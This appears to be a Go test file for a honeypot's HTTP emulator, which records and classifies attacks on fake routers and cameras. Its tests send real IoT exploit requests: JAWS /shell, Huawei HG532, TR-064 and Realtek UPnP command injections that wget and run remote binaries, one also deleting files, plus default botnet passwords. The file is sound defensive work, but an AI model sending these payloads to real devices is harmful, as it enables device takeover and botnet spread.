package httpd

import (
	"bufio"
	"bytes"
	"context"
	"crypto/sha256"
	"crypto/tls"
	"encoding/binary"
	"encoding/hex"
	"io"
	"mime/multipart"
	"net"
	"net/http"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/honeyscope/honeyscope/internal/session"
)

type result struct {
	reason string
	sess   session.Session
}

// serve listens on loopback and serves connections with srv as the
// listener framework does, each recorded as a session on port; results
// arrive in order on the returned channel.
func serve(t *testing.T, srv *Server, port uint16, lim session.Limits) (string, <-chan result) {
	t.Helper()
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { ln.Close() })
	hub := session.NewHub(session.HubConfig{Limits: lim})
	out := make(chan result, 16)
	go func() {
		for {
			c, err := ln.Accept()
			if err != nil {
				return
			}
			go func() {
				rec := hub.Open(session.Session{Service: session.HTTP, Port: port}, lim)
				ctx, cancel := context.WithTimeout(context.Background(), 30*time.Second)
				defer cancel()
				reason := srv.Serve(ctx, c, rec)
				c.Close()
				rec.Close(reason)
				out <- result{reason, rec.Snapshot()}
			}()
		}
	}()
	return ln.Addr().String(), out
}

func wait(t *testing.T, ch <-chan result) result {
	t.Helper()
	select {
	case r := <-ch:
		return r
	case <-time.After(30 * time.Second):
		t.Fatal("session did not end")
	}
	return result{}
}

func newServer(t *testing.T, cfg Config) *Server {
	t.Helper()
	s, err := New(cfg)
	if err != nil {
		t.Fatal(err)
	}
	return s
}

// raw sends req on a new connection, half-closes it and returns what the
// server answered.
func raw(t *testing.T, addr string, req []byte) string {
	t.Helper()
	c, err := net.Dial("tcp", addr)
	if err != nil {
		t.Fatal(err)
	}
	defer c.Close()
	go func() {
		c.Write(req)
		c.(*net.TCPConn).CloseWrite()
	}()
	b, _ := io.ReadAll(c)
	return string(b)
}

// readResponses parses every response in s.
func readResponses(t *testing.T, s string) []*http.Response {
	t.Helper()
	br := bufio.NewReader(strings.NewReader(s))
	var out []*http.Response
	for {
		resp, err := http.ReadResponse(br, nil)
		if err != nil {
			return out
		}
		body, _ := io.ReadAll(resp.Body)
		resp.Body = io.NopCloser(bytes.NewReader(body))
		out = append(out, resp)
	}
}

func body(r *http.Response) string {
	b, _ := io.ReadAll(r.Body)
	return string(b)
}

// elf builds the start of a 32-bit little-endian ARM executable, size
// bytes long (no code: a header and filler).
func elf(size int) []byte {
	b := make([]byte, size)
	copy(b, "\x7fELF\x01\x01\x01")
	binary.LittleEndian.PutUint16(b[16:], 2)  // ET_EXEC
	binary.LittleEndian.PutUint16(b[18:], 40) // EM_ARM
	for i := 64; i < size; i++ {
		b[i] = byte(i * 7)
	}
	return b
}

func TestGetRouterPage(t *testing.T) {
	srv := newServer(t, Config{})
	addr, done := serve(t, srv, 8080, session.DefaultLimits())
	tr := &http.Transport{}
	cl := &http.Client{Transport: tr}
	for _, path := range []string{"/", "/nothing.php"} {
		resp, err := cl.Get("http://" + addr + path)
		if err != nil {
			t.Fatal(err)
		}
		b := body(resp)
		resp.Body.Close()
		switch path {
		case "/":
			if resp.StatusCode != 200 || !strings.Contains(b, "<title>Wireless Router</title>") || !strings.Contains(b, `type="password"`) {
				t.Errorf("GET /: %d %q", resp.StatusCode, b)
			}
		default:
			if resp.StatusCode != 404 {
				t.Errorf("GET %s: %d", path, resp.StatusCode)
			}
		}
		if resp.Header.Get("Server") != "Boa/0.94.14rc21" {
			t.Errorf("Server %q", resp.Header.Get("Server"))
		}
	}
	tr.CloseIdleConnections()
	r := wait(t, done)
	if r.reason != "closed" {
		t.Errorf("reason %q", r.reason)
	}
	s := r.sess
	if len(s.Requests) != 2 {
		t.Fatalf("requests %+v", s.Requests)
	}
	q := s.Requests[0]
	if q.Method != "GET" || q.Path != "/" || q.Version != "HTTP/1.1" || q.Host != addr || q.Status != 200 || s.Requests[1].Status != 404 {
		t.Errorf("request %+v", q)
	}
	if !strings.Contains(q.Headers, "User-Agent: Go-http-client/1.1") || strings.Contains(q.Headers, "\r") || strings.HasPrefix(q.Headers, "GET") {
		t.Errorf("headers %q", q.Headers)
	}
	if s.ClientVersion != "Go-http-client/1.1" {
		t.Errorf("client version %q", s.ClientVersion)
	}
}

func TestJAWSShell(t *testing.T) {
	srv := newServer(t, Config{})
	addr, done := serve(t, srv, 81, session.DefaultLimits())
	out := raw(t, addr, []byte("GET /shell?cd+/tmp;rm+-rf+*;wget+http://1.2.3.4/arm;sh+/tmp/arm HTTP/1.1\r\nUser-Agent: Hello, world\r\nHost: 127.0.0.1:81\r\nAccept: text/html\r\nConnection: keep-alive\r\n\r\n"))
	rs := readResponses(t, out)
	if len(rs) != 1 || rs[0].StatusCode != 200 || rs[0].Header.Get("Server") != "JAWS/1.0" {
		t.Fatalf("answer %q", out)
	}
	s := wait(t, done).sess
	if len(s.Requests) != 1 || !slices.Equal(s.Requests[0].Patterns, []string{"jaws-shell"}) {
		t.Fatalf("requests %+v", s.Requests)
	}
	if s.Requests[0].Path != "/shell?cd+/tmp;rm+-rf+*;wget+http://1.2.3.4/arm;sh+/tmp/arm" {
		t.Errorf("path %q", s.Requests[0].Path)
	}
	if len(s.URLs) != 1 || s.URLs[0].URL != "http://1.2.3.4/arm" || s.URLs[0].Via != "request" {
		t.Errorf("urls %+v", s.URLs)
	}
	if s.ClientVersion != "Hello, world" {
		t.Errorf("client version %q", s.ClientVersion)
	}
}

const huaweiBody = `<?xml version="1.0" ?><s:Envelope xmlns:s="http://schemas.xmlsoap.org/soap/envelope/" s:encodingStyle="http://schemas.xmlsoap.org/soap/encoding/"><s:Body><u:Upgrade xmlns:u="urn:schemas-upnp-org:service:WANPPPConnection:1"><NewStatusURL>$(/bin/busybox wget -g 1.2.3.4 -l /tmp/x -r /mips)</NewStatusURL><NewDownloadURL>$(echo HUAWEIUPNP)</NewDownloadURL></u:Upgrade></s:Body></s:Envelope>`

func TestHuaweiUpgrade(t *testing.T) {
	srv := newServer(t, Config{})
	addr, done := serve(t, srv, 37215, session.DefaultLimits())
	req := "POST /ctrlt/DeviceUpgrade_1 HTTP/1.1\r\nContent-Length: " + itoa(len(huaweiBody)) + "\r\nConnection: keep-alive\r\nAccept: */*\r\nAuthorization: Digest username=\"dslf-config\", realm=\"HuaweiHomeGateway\", nonce=\"88645cefb1f9ede0e336e3569d75ee30\", uri=\"/ctrlt/DeviceUpgrade_1\", response=\"3612f843a42db38f48f59d2a3597e19c\", algorithm=\"MD5\", qop=\"auth\", nc=00000001, cnonce=\"248d1a2560100669\"\r\n\r\n" + huaweiBody
	out := raw(t, addr, []byte(req))
	rs := readResponses(t, out)
	if len(rs) != 1 || rs[0].StatusCode != 200 {
		t.Fatalf("answer %q", out)
	}
	if b := body(rs[0]); !strings.Contains(b, "<u:UpgradeResponse") && !strings.Contains(b, "AddPortMappingResponse") {
		t.Errorf("soap answer %q", b)
	}
	s := wait(t, done).sess
	q := s.Requests[0]
	if !slices.Equal(q.Patterns, []string{"huawei-hg532-upgrade"}) || string(q.Body) != huaweiBody || q.BodySize != int64(len(huaweiBody)) || q.Method != "POST" {
		t.Errorf("request %+v", q)
	}
	if len(s.URLs) != 1 || s.URLs[0].URL != "tftp://1.2.3.4/mips" || s.URLs[0].Target != "/tmp/x" {
		t.Errorf("urls %+v", s.URLs)
	}
}

func TestSOAPActionEcho(t *testing.T) {
	srv := newServer(t, Config{})
	addr, done := serve(t, srv, 7547, session.DefaultLimits())
	soap := `<?xml version="1.0"?><SOAP-ENV:Envelope xmlns:SOAP-ENV="http://schemas.xmlsoap.org/soap/envelope/"><SOAP-ENV:Body><u:SetNTPServers xmlns:u="urn:dslforum-org:service:Time:1"><NewNTPServer1>` + "`cd /tmp;wget http://5.6.7.8/1;chmod 777 1;./1`" + `</NewNTPServer1></u:SetNTPServers></SOAP-ENV:Body></SOAP-ENV:Envelope>`
	req := "POST /UD/act?1 HTTP/1.1\r\nHost: 127.0.0.1:7547\r\nSOAPAction: urn:dslforum-org:service:Time:1#SetNTPServers\r\nContent-Type: text/xml\r\nContent-Length: " + itoa(len(soap)) + "\r\n\r\n" + soap +
		"POST /UD/act?1 HTTP/1.1\r\nSOAPAction: \"urn:x#<script>\"\r\nContent-Length: 0\r\n\r\n"
	rs := readResponses(t, raw(t, addr, []byte(req)))
	if len(rs) != 2 {
		t.Fatalf("%d answers", len(rs))
	}
	if b := body(rs[0]); !strings.Contains(b, `<u:SetNTPServersResponse xmlns:u="urn:dslforum-org:service:Time:1"></u:SetNTPServersResponse>`) || rs[0].Header.Get("Server") != "RomPager/4.07 UPnP/1.0" {
		t.Errorf("answer %q", b)
	}
	if b := body(rs[1]); strings.Contains(b, "script") {
		t.Errorf("action reflected: %q", b)
	}
	s := wait(t, done).sess
	if len(s.URLs) != 1 || s.URLs[0].URL != "http://5.6.7.8/1" {
		t.Errorf("urls %+v", s.URLs)
	}
}

func TestRealtekUPnP(t *testing.T) {
	srv := newServer(t, Config{})
	addr, done := serve(t, srv, 52869, session.DefaultLimits())
	soap := `<?xml version="1.0" ?><s:Envelope xmlns:s="http://schemas.xmlsoap.org/soap/envelope/"><s:Body><u:AddPortMapping xmlns:u="urn:schemas-upnp-org:service:WANIPConnection:1"><NewInternalClient>` + "`cd /var; rm -rf nig; wget http://9.9.9.9/nig; chmod 777 nig; ./nig realtek`" + `</NewInternalClient></u:AddPortMapping></s:Body></s:Envelope>`
	req := "GET /picsdesc.xml HTTP/1.1\r\nHost: x\r\n\r\nPOST /picsdesc.xml HTTP/1.1\r\nSOAPAction: urn:schemas-upnp-org:service:WANIPConnection:1#AddPortMapping\r\nContent-Length: " + itoa(len(soap)) + "\r\n\r\n" + soap
	rs := readResponses(t, raw(t, addr, []byte(req)))
	if len(rs) != 2 || !strings.Contains(body(rs[0]), "InternetGatewayDevice") || !strings.Contains(body(rs[1]), "AddPortMappingResponse") {
		t.Fatalf("answers %d", len(rs))
	}
	s := wait(t, done).sess
	if len(s.Requests) != 2 || !slices.Equal(s.Requests[1].Patterns, []string{"realtek-upnp-soap"}) {
		t.Errorf("requests %+v", s.Requests)
	}
}

func itoa(n int) string { return strings.TrimSpace(strings.Repeat(" ", 0) + fmtInt(n)) }

func fmtInt(n int) string {
	return string(appendInt(nil, n))
}

func appendInt(b []byte, n int) []byte {
	if n >= 10 {
		b = appendInt(b, n/10)
	}
	return append(b, byte('0'+n%10))
}

func TestELFUpload(t *testing.T) {
	srv := newServer(t, Config{})
	lim := session.DefaultLimits()
	addr, done := serve(t, srv, 80, lim)
	sample := elf(100 << 10) // larger than the body kept with the request
	resp, err := http.Post("http://"+addr+"/upload.cgi", "application/x-www-form-urlencoded", bytes.NewReader(sample))
	if err != nil {
		t.Fatal(err)
	}
	resp.Body.Close()
	http.DefaultTransport.(*http.Transport).CloseIdleConnections()
	s := wait(t, done).sess
	q := s.Requests[0]
	if q.BodySize != int64(len(sample)) || len(q.Body) != lim.Body {
		t.Errorf("body %d of %d", len(q.Body), q.BodySize)
	}
	sum := sha256.Sum256(sample)
	if len(s.Files) != 1 {
		t.Fatalf("files %+v", s.Files)
	}
	f := s.Files[0]
	if f.Via != "http-body" || f.Type != "elf32-arm-le" || f.Size != int64(len(sample)) || f.SHA256 != hex.EncodeToString(sum[:]) || !f.Sample || f.Path != "" {
		t.Errorf("file %+v", f)
	}
}

func TestMultipartUpload(t *testing.T) {
	srv := newServer(t, Config{})
	addr, done := serve(t, srv, 80, session.DefaultLimits())
	var b bytes.Buffer
	mw := multipart.NewWriter(&b)
	mw.WriteField("submit", "Upload")
	fw, _ := mw.CreateFormFile("file", "x.sh")
	script := []byte("#!/bin/sh\ncd /tmp; wget http://4.3.2.1/bins.sh; sh bins.sh\n")
	fw.Write(script)
	fw, _ = mw.CreateFormFile("bin", "a")
	bin := elf(3000)
	fw.Write(bin)
	mw.Close()
	resp, err := http.Post("http://"+addr+"/cgi-bin/upload", mw.FormDataContentType(), &b)
	if err != nil {
		t.Fatal(err)
	}
	resp.Body.Close()
	if resp.StatusCode != 401 || !strings.HasPrefix(resp.Header.Get("WWW-Authenticate"), "Basic realm=") {
		t.Errorf("protected path: %d %q", resp.StatusCode, resp.Header.Get("WWW-Authenticate"))
	}
	http.DefaultTransport.(*http.Transport).CloseIdleConnections()
	s := wait(t, done).sess
	var types []string
	for _, f := range s.Files {
		types = append(types, f.Type)
	}
	if !slices.Equal(types, []string{"script", "elf32-arm-le"}) || s.Files[0].Size != int64(len(script)) || s.Files[1].Size != 3000 {
		t.Errorf("files %+v", s.Files)
	}
	if len(s.URLs) != 1 || s.URLs[0].URL != "http://4.3.2.1/bins.sh" {
		t.Errorf("urls %+v", s.URLs)
	}
}

func TestBasicAuth(t *testing.T) {
	srv := newServer(t, Config{}) // default policy: the third attempt passes
	addr, done := serve(t, srv, 8080, session.DefaultLimits())
	var reqs strings.Builder
	reqs.WriteString("GET /cgi-bin/ HTTP/1.1\r\nHost: x\r\n\r\n")
	for _, up := range []string{"YWRtaW46YWRtaW4=", "cm9vdDp4YzM1MTE=", "YWRtaW46MTIzNA=="} { // admin:admin root:xc3511 admin:1234
		reqs.WriteString("GET /cgi-bin/ HTTP/1.1\r\nHost: x\r\nAuthorization: Basic " + up + "\r\n\r\n")
	}
	rs := readResponses(t, raw(t, addr, []byte(reqs.String())))
	var codes []int
	for _, r := range rs {
		codes = append(codes, r.StatusCode)
	}
	if !slices.Equal(codes, []int{401, 401, 401, 200}) {
		t.Errorf("statuses %v", codes)
	}
	s := wait(t, done).sess
	if len(s.Logins) != 3 || s.Logins[0].Username != "admin" || s.Logins[1].Password != "xc3511" || s.Logins[2].Method != "http-basic" || !s.Logins[2].Success || s.Logins[1].Success {
		t.Errorf("logins %+v", s.Logins)
	}
}

func TestFormLogin(t *testing.T) {
	srv := newServer(t, Config{Credentials: nobody{}})
	addr, done := serve(t, srv, 80, session.DefaultLimits())
	form := "username=admin&password=%3Cb%3Epw"
	rs := readResponses(t, raw(t, addr, []byte("POST /login.cgi HTTP/1.0\r\nContent-Length: "+itoa(len(form))+"\r\n\r\n"+form)))
	if len(rs) != 1 || !strings.Contains(body(rs[0]), "Invalid username") {
		t.Fatalf("answers %d", len(rs))
	}
	s := wait(t, done).sess
	if len(s.Logins) != 1 || s.Logins[0].Method != "http-form" || s.Logins[0].Password != "<b>pw" || s.Logins[0].Success {
		t.Errorf("logins %+v", s.Logins)
	}
}

type nobody struct{}

func (nobody) Check(*session.Session, int, string, string) bool { return false }

func TestNoReflection(t *testing.T) {
	srv := newServer(t, Config{Title: "<script>x</script>"})
	addr, done := serve(t, srv, 80, session.DefaultLimits())
	rs := readResponses(t, raw(t, addr, []byte("GET /%3Cscript%3Ealert(1)%3C/script%3E HTTP/1.1\r\nHost: <script>\r\n\r\nGET / HTTP/1.1\r\nHost: x\r\n\r\nHEAD / HTTP/1.1\r\n\r\n")))
	if len(rs) != 3 {
		t.Fatalf("%d answers", len(rs))
	}
	if b := body(rs[0]); rs[0].StatusCode != 404 || strings.Contains(b, "alert") || strings.Contains(b, "script") {
		t.Errorf("404 page %q", b)
	}
	if b := body(rs[1]); strings.Contains(b, "<script>") || !strings.Contains(b, "&lt;script&gt;x&lt;/script&gt;") {
		t.Errorf("title not escaped: %q", b)
	}
	wait(t, done)
}

func TestHead(t *testing.T) {
	srv := newServer(t, Config{})
	addr, done := serve(t, srv, 80, session.DefaultLimits())
	out := raw(t, addr, []byte("HEAD / HTTP/1.1\r\nHost: x\r\n\r\nGET /x HTTP/1.1\r\nHost: x\r\n\r\n"))
	// The HEAD answer has a length but no body: the next answer follows it.
	i := strings.Index(out, "\r\n\r\n")
	if i < 0 || !strings.HasPrefix(out[i+4:], "HTTP/1.1 404") {
		t.Errorf("answers %q", out)
	}
	wait(t, done)
}

func TestOversizedHead(t *testing.T) {
	srv := newServer(t, Config{})
	addr, done := serve(t, srv, 80, session.DefaultLimits())
	out := raw(t, addr, []byte("GET / HTTP/1.1\r\nCookie: "+strings.Repeat("a", 20<<10)+"\r\n\r\n"))
	if !strings.HasPrefix(out, "HTTP/1.1 431 ") {
		t.Errorf("answer %.60q", out)
	}
	r := wait(t, done)
	if r.reason != "headers" || len(r.sess.Requests) != 1 || r.sess.Requests[0].Status != 431 || r.sess.Requests[0].Method != "GET" {
		t.Errorf("reason %q requests %d", r.reason, len(r.sess.Requests))
	}
	if n := len(r.sess.Requests[0].Headers); n > session.DefaultLimits().Headers {
		t.Errorf("header block of %d bytes kept", n)
	}
}

func TestOversizedBody(t *testing.T) {
	srv := newServer(t, Config{})
	lim := session.DefaultLimits()
	lim.Bytes = 1 << 20
	addr, done := serve(t, srv, 80, lim)
	c, err := net.Dial("tcp", addr)
	if err != nil {
		t.Fatal(err)
	}
	defer c.Close()
	go func() {
		io.WriteString(c, "POST /x HTTP/1.1\r\nContent-Length: 10485760\r\n\r\n")
		chunk := bytes.Repeat([]byte("wget http://1.1.1.1/a;"), 1000)
		for range 200 {
			if _, err := c.Write(chunk); err != nil {
				return
			}
		}
	}()
	r := wait(t, done)
	if r.reason != "bytes" {
		t.Errorf("reason %q", r.reason)
	}
	q := r.sess.Requests[0]
	if q.BodySize != 10<<20 || len(q.Body) != lim.Body {
		t.Errorf("body %d of %d", len(q.Body), q.BodySize)
	}
	if len(r.sess.URLs) != 1 {
		t.Errorf("urls %+v", r.sess.URLs)
	}
}

func TestChunkedBody(t *testing.T) {
	srv := newServer(t, Config{})
	addr, done := serve(t, srv, 80, session.DefaultLimits())
	rs := readResponses(t, raw(t, addr, []byte("POST /cgi HTTP/1.1\r\nTransfer-Encoding: chunked\r\n\r\n5\r\ncmd=w\r\n1c\r\nget+http%3A%2F%2F8.8.4.4%2Fz\r\n0\r\n\r\nGET / HTTP/1.1\r\n\r\n")))
	if len(rs) != 2 {
		t.Fatalf("%d answers", len(rs))
	}
	s := wait(t, done).sess
	if string(s.Requests[0].Body) != "cmd=wget+http%3A%2F%2F8.8.4.4%2Fz" || s.Requests[0].BodySize != 33 {
		t.Errorf("body %q size %d", s.Requests[0].Body, s.Requests[0].BodySize)
	}
	if len(s.URLs) != 1 || s.URLs[0].URL != "http://8.8.4.4/z" {
		t.Errorf("urls %+v", s.URLs)
	}
}

func TestGarbage(t *testing.T) {
	srv := newServer(t, Config{})
	addr, done := serve(t, srv, 80, session.DefaultLimits())
	junk := []byte("\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03\xff\xfe\r\n\r\n")
	out := raw(t, addr, junk)
	if !strings.HasPrefix(out, "HTTP/1.1 400 ") {
		t.Errorf("answer %q", out)
	}
	r := wait(t, done)
	if r.reason != "bad-request" || !bytes.Equal(r.sess.FirstBytes, junk) || r.sess.Requests[0].Status != 400 {
		t.Errorf("reason %q first %q", r.reason, r.sess.FirstBytes)
	}
	// A long line without an end is cut at the head bound.
	out = raw(t, addr, bytes.Repeat([]byte{0xff, 0}, 20<<10))
	r = wait(t, done)
	if !strings.HasPrefix(out, "HTTP/1.1 400 ") || r.reason != "bad-request" {
		t.Errorf("answer %.40q reason %q", out, r.reason)
	}
	// A client that goes away mid-head leaves what it sent.
	raw(t, addr, []byte("GET /cgi-bin/;wget+http://7.7.7.7/x HTTP/1.1\r\nHost"))
	r = wait(t, done)
	if r.reason != "closed" || len(r.sess.Requests) != 1 || len(r.sess.URLs) != 1 {
		t.Errorf("reason %q, %+v", r.reason, r.sess.Requests)
	}
}

func TestRequestLimit(t *testing.T) {
	srv := newServer(t, Config{})
	lim := session.DefaultLimits()
	lim.Requests = 2
	addr, done := serve(t, srv, 80, lim)
	rs := readResponses(t, raw(t, addr, []byte(strings.Repeat("GET / HTTP/1.1\r\n\r\n", 5))))
	r := wait(t, done)
	if len(rs) != 3 || r.reason != "requests" || len(r.sess.Requests) != 2 || r.sess.Truncated != 1 {
		t.Errorf("%d answers, reason %q, %d requests", len(rs), r.reason, len(r.sess.Requests))
	}
}

func TestTLS(t *testing.T) {
	if testing.Short() {
		t.Skip("generates an RSA key")
	}
	dir := filepath.Join(t.TempDir(), "certs")
	srv := newServer(t, Config{TLS: true, CertDir: dir})
	addr, done := serve(t, srv, 8443, session.DefaultLimits())
	c, err := tls.Dial("tcp", addr, &tls.Config{InsecureSkipVerify: true})
	if err != nil {
		t.Fatal(err)
	}
	io.WriteString(c, "GET / HTTP/1.1\r\nHost: cam\r\nConnection: close\r\n\r\n")
	out, _ := io.ReadAll(c)
	state := c.ConnectionState()
	c.Close()
	rs := readResponses(t, string(out))
	if len(rs) != 1 || !strings.Contains(body(rs[0]), "<title>IP Camera</title>") {
		t.Errorf("answer %q", out)
	}
	cn := state.PeerCertificates[0].Subject.CommonName
	if cn != DefaultCertName {
		t.Errorf("certificate for %q", cn)
	}
	r := wait(t, done)
	if r.reason != "closed" || len(r.sess.Requests) != 1 || r.sess.Requests[0].Host != "cam" {
		t.Errorf("reason %q requests %+v", r.reason, r.sess.Requests)
	}
	st, err := os.Stat(filepath.Join(dir, keyFile))
	if err != nil || st.Mode().Perm() != 0o600 {
		t.Errorf("key file: %v %v", err, st)
	}
	// The cached certificate is loaded again.
	srv2 := newServer(t, Config{TLS: true, CertDir: dir})
	if !bytes.Equal(srv2.tls.Certificates[0].Certificate[0], state.PeerCertificates[0].Raw) {
		t.Error("certificate not reused")
	}
	// Plain HTTP on the TLS port is answered in plain HTTP.
	out2 := raw(t, addr, []byte("GET /shell?wget+http://3.3.3.3/x HTTP/1.1\r\nHost: x\r\n\r\n"))
	if !strings.HasPrefix(out2, "HTTP/1.1 404") {
		t.Errorf("plain answer %q", out2)
	}
	r = wait(t, done)
	if len(r.sess.Requests) != 1 || r.sess.Requests[0].Path != "/shell?wget+http://3.3.3.3/x" {
		t.Errorf("plain request %+v", r.sess.Requests)
	}
}

func TestBadConfig(t *testing.T) {
	for _, c := range []Config{{Profile: "toaster"}, {Banner: "a\r\nSet-Cookie: x"}} {
		if _, err := New(c); err == nil {
			t.Errorf("%+v accepted", c)
		}
	}
}

func TestShutdown(t *testing.T) {
	srv := newServer(t, Config{})
	a, b := net.Pipe()
	defer b.Close()
	ctx, cancel := context.WithCancel(context.Background())
	got := make(chan string, 1)
	go func() {
		rec := session.NewHub(session.HubConfig{}).Open(session.Session{}, session.Limits{})
		got <- srv.Serve(ctx, a, rec)
	}()
	cancel()
	select {
	case r := <-got:
		if r != "shutdown" {
			t.Errorf("reason %q", r)
		}
	case <-time.After(10 * time.Second):
		t.Fatal("Serve did not return")
	}
}
